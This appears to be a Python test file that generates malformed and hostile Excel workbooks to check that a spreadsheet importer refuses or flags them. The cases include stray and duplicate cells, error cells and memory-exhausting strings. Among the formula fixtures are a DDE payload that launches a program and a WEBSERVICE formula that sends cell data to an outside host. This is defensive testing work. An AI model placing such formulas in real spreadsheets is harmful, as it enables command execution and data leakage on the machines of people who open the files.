"""Sheets that mislead: cells far out, twice or out of order, formulas, errors, indices without a string."""

from __future__ import annotations

from tests.foundation.tabular.hostile.anatomy import (
    GOOD,
    MAIN,
    PEOPLE,
    SERIAL,
    SHEET,
    STRINGS,
    cell,
    header,
    line,
    packed,
    person,
    read,
    refused,
    row,
    sheet,
    text,
    with_sheet,
)


@read("dimension-too-small.xlsx")
def dimension_too_small() -> bytes:
    return with_sheet(*PEOPLE, before='<dimension ref="A1:A1"/>')


@read("dimension-of-the-whole-sheet.xlsx")
def dimension_too_large() -> bytes:
    return with_sheet(*PEOPLE, before='<dimension ref="A1:XFD1048576"/>')


for label, reference, code in (
    ("stray-cell-in-the-last-corner.xlsx", "XFD1048576", "stray_cell"),
    ("stray-cell-far-right.xlsx", "XFD5", "stray_cell"),
    ("stray-cell-far-down.xlsx", "A1048576", "stray_cell"),
    ("stray-cell-in-small-letters.xlsx", "xfd1048576", "stray_cell"),
    ("stray-cell-beyond-any-sheet.xlsx", "A99999999999999", "stray_cell"),
    ("column-101.xlsx", "CW5", "stray_cell"),
):
    digits = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")
    refused(label, code, reference[:20])(
        lambda reference=reference, digits=digits: with_sheet(*PEOPLE, row(digits, cell(reference, 1)))
    )


@refused("stray-cell-oddly-written.xlsx", "stray_cell", "XFD1048576")
def stray_oddly_written() -> bytes:
    return with_sheet(*PEOPLE, "<row\nr = '1048576'><c\n\ts='1'\nr = 'XFD1048576'><v>1</v></c></row>")


@refused("stray-cell-behind-a-reference.xlsx", "strange_cell")
def stray_behind_reference() -> bytes:
    return with_sheet(*PEOPLE, '<row><c r="&#88;FD1048576"><v>1</v></c></row>')


@refused("row-number-negative.xlsx", "strange_cell")
def negative_row() -> bytes:
    return with_sheet(person(2), row(-3, cell("A-3", 1)))


@refused("row-number-zero.xlsx", "strange_cell", "A0")
def zero_row() -> bytes:
    return with_sheet(person(2), row(0, cell("A0", 1)))


@refused("rows-out-of-order.xlsx", "strange_cell", "A3")
def rows_out_of_order() -> bytes:
    return with_sheet(person(4), person(3), person(2))


@refused("row-twice.xlsx", "strange_cell", "A2")
def row_twice() -> bytes:
    return with_sheet(person(2), person(2, B=text("B2", "别人")))


@refused("cell-twice.xlsx", "strange_cell", "C2")
def cell_twice() -> bytes:
    return with_sheet(person(2, C=cell("C2", 60) + cell("C2", 99)))


@refused("cell-in-another-row-than-it-says.xlsx", "strange_cell", "A2")
def cell_lies() -> bytes:
    return with_sheet(person(2), row(3, text("A2", "000009")))


@refused("two-tables-of-cells.xlsx", "archive_broken", "sheetData")
def two_tables() -> bytes:
    return with_sheet(person(2), f"</sheetData><sheetData>{person(3)}")


@read("cells-without-places.xlsx", {2: line(2)})
def without_places() -> bytes:
    names = "".join(text("", name) for name in ("准考证号", "姓名", "成绩", "考核日期", "结论"))
    cells = text("", "000002") + text("", "王小明") + cell("", "88.5") + cell("", SERIAL, ' s="1"') + text("", "合格")
    return packed({SHEET: sheet(row("", names), row("", cells))})


@refused("cells-some-without-places.xlsx", "strange_cell")
def some_without_places() -> bytes:
    return with_sheet(row(2, text("A2", "000002"), text("", "王小明"), text("A2", "000003")))


@refused("rows-jump-back-without-places.xlsx", "strange_cell", "row 2")
def rows_jump_back() -> bytes:
    names = "".join(text("", name) for name in ("准考证号", "姓名", "成绩", "考核日期", "结论"))
    people = [row(number, text("", f"{number:06d}"), text("", "王小明")) for number in (2, 3, 2)]
    return packed({SHEET: sheet(row(1, names), *people)})


for label, formula in {
    "formula.xlsx": "<f>1+1</f>",
    "formula-shared.xlsx": '<f t="shared" ref="C3:C9" si="0">A3</f>',
    "formula-shared-follower.xlsx": '<f t="shared" si="0"/>',
    "formula-of-an-array.xlsx": '<f t="array" ref="C3">SUM(A1:A9)</f>',
    "formula-that-starts-a-program.xlsx": "<f>cmd|'/C calc'!A0</f>",
    "formula-that-fetches.xlsx": '<f>WEBSERVICE("http://example.org/"&amp;A2)</f>',
    "formula-with-a-prefix.xlsx": '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">1</x:f>',
}.items():
    refused(label, "formula", "C3")(
        lambda formula=formula: with_sheet(person(2), person(3, C=f'<c r="C3">{formula}<v>88.5</v></c>'), person(4))
    )


@refused("formulas-in-every-row.xlsx", "formula", "C2, C3")
def formulas_everywhere() -> bytes:
    return with_sheet(*(person(number, C=f'<c r="C{number}"><f>A{number}</f><v>1</v></c>') for number in range(2, 3000)))


for label, error in {"error-reference.xlsx": "#REF!", "error-missing.xlsx": "#N/A", "error-division.xlsx": "#DIV/0!"}.items():
    refused(label, "error_cell", "C3")(
        lambda error=error: with_sheet(person(2), person(3, C=cell("C3", error, ' t="e"')), person(4))
    )


@read("error-as-words.xlsx", {2: line(2)}, {("name", "error_value"): [3]})
def error_as_words() -> bytes:
    return with_sheet(person(2), person(3, B=text("B3", "#REF!")))


@read("number-that-is-none.xlsx", {2: line(2)}, {("name", "error_value"): [3], ("score", "not_a_number"): [4]})
def number_that_is_none() -> bytes:
    return with_sheet(person(2), person(3, B=cell("B3", "NaN")), person(4, C=cell("C4", "1E+999")))


for label, index in {
    "string-index-negative.xlsx": "-1",
    "string-index-with-letters.xlsx": "1x",
    "string-index-fraction.xlsx": "0.5",
    "string-index-overflowing.xlsx": "18446744073709551616",
    "string-index-signed.xlsx": "+1",
}.items():
    refused(label, "strange_cell", "B3")(lambda index=index: with_sheet(person(2), person(3, B=cell("B3", index, ' t="s"'))))


@refused("string-index-out-of-range.xlsx", "archive_broken")
def index_out_of_range() -> bytes:
    return with_sheet(person(2), person(3, B=cell("B3", 99, ' t="s"')))


@refused("cell-type-unknown.xlsx", "archive_broken")
def unknown_type() -> bytes:
    return with_sheet(person(2, C=cell("C2", 5, ' t="zzz"')))


@refused("cell-type-as-reference.xlsx", "archive_broken")
def type_as_reference() -> bytes:
    return with_sheet(person(2, C=cell("C2", "#DIV/0!", ' t="&#101;"')))


@read("strings-rich-and-phonetic.xlsx", {2: line(2), 3: line(3, "王小明")})
def rich_strings() -> bytes:
    rich = '<si><r><t>王</t></r><r><rPr/><t>小明</t></r><rPh sb="0" eb="1"><t>ワン</t></rPh></si>'
    held = f'<sst xmlns="{MAIN}">{rich}</sst>'.encode()
    return packed({STRINGS: held, SHEET: sheet(header(), person(2), person(3, B=cell("B3", 0, ' t="s"')))})


@read("string-with-escapes.xlsx", {2: line(2, "A B")}, {("name", "tidied"): [2], ("name", "control_characters"): [3]})
def escapes() -> bytes:
    return with_sheet(person(2, B=text("B2", "_x0041__x000D_B")), person(3, B=text("B3", "a_x0001_b")))


@refused("character-no-xml-allows.xlsx", "archive_broken")
def forbidden_character() -> bytes:
    return with_sheet(person(2, B=text("B2", "a&#0;b")))


@refused("bytes-no-utf-8.xlsx", "archive_broken")
def bytes_no_utf8() -> bytes:
    return packed({STRINGS: b"<sst><si><t>a\xff\xfeb</t></si></sst>"})


@read("string-of-five-megabytes.xlsx", {2: line(2)}, {("name", "too_long"): [3]})
def huge_string() -> bytes:
    held = f'<sst xmlns="{MAIN}"><si><t>{_babble(5_000_000)}</t></si></sst>'.encode()
    return packed({STRINGS: held, SHEET: sheet(header(), person(2), person(3, B=cell("B3", 0, ' t="s"')))})


@refused("inline-string-of-five-megabytes.xlsx", "cell_too_large", "B3")
def huge_inline_string() -> bytes:
    return with_sheet(person(2), person(3, B=text("B3", _babble(5_000_000))))


def _babble(length: int) -> str:
    """Words that do not compress as a bomb does."""
    return "".join(f"{number * 2654435761 % 4294967296:x} " for number in range(length // 8))


@read("style-index-out-of-range.xlsx", GOOD)
def style_out_of_range() -> bytes:
    return with_sheet(person(2, C=cell("C2", "88.5", ' s="99999"')), person(3), person(4))


@read("merged-over-data.xlsx", {2: line(2)}, {("name", "required"): [3]})
def merged() -> bytes:
    merge = '<mergeCells count="1"><mergeCell ref="B2:B3"/></mergeCells>'
    return with_sheet(person(2), person(3, B='<c r="B3"/>'), after=merge)


@read("rows-and-columns-hidden.xlsx", GOOD)
def hidden_rows() -> bytes:
    hidden = '<cols><col min="2" max="2" hidden="1"/></cols>'
    return with_sheet(person(2), person(3).replace("<row", '<row hidden="1"', 1), person(4), before=hidden)


@read("empty-rows-behind-by-the-thousand.xlsx", GOOD)
def empty_rows() -> bytes:
    return with_sheet(*PEOPLE, *(f'<row r="{number}"><c r="A{number}" s="1"/></row>' for number in range(5, 20_000)))


@refused("only-a-header.xlsx", "no_rows")
def only_header() -> bytes:
    return with_sheet()


@refused("empty-sheet.xlsx", "empty_file")
def empty_sheet() -> bytes:
    return packed({SHEET: sheet()})


@refused("wide-and-almost-empty.xlsx", "parser_gave_up")
def wide_and_almost_empty() -> bytes:
    """Two cells a row, a hundred columns apart: the parser would keep all between, until the child's memory ends."""
    names = header(names=("准考证号", "姓名", "成绩", "考核日期"))
    wide = (row(number, cell(f"A{number}", number), cell(f"CV{number}", 1)) for number in range(2, 150_000))
    return packed({SHEET: sheet(names, *wide)})


@read("strings-by-the-million.xlsx", GOOD)
def million_strings() -> bytes:
    held = "".join(f"<si><t>{number * 2654435761 % 65536:x}</t></si>" for number in range(1_000_000))
    return packed({STRINGS: f'<sst xmlns="{MAIN}">{held}</sst>'.encode()})
